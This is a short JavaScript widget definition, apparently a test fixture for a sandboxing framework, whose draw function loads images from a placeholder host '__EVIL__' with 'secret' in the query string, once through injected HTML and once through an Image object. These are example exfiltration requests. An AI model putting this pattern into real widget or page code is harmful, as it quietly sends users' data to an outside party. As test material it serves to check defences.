vitrine.defineWidget({
  async draw(root) {
    root.innerHTML = '<img src="__EVIL__/image?secret" alt="">';
    new Image().src = '__EVIL__/image-object?secret';
    return { summary: 'drawn' };
  },
});
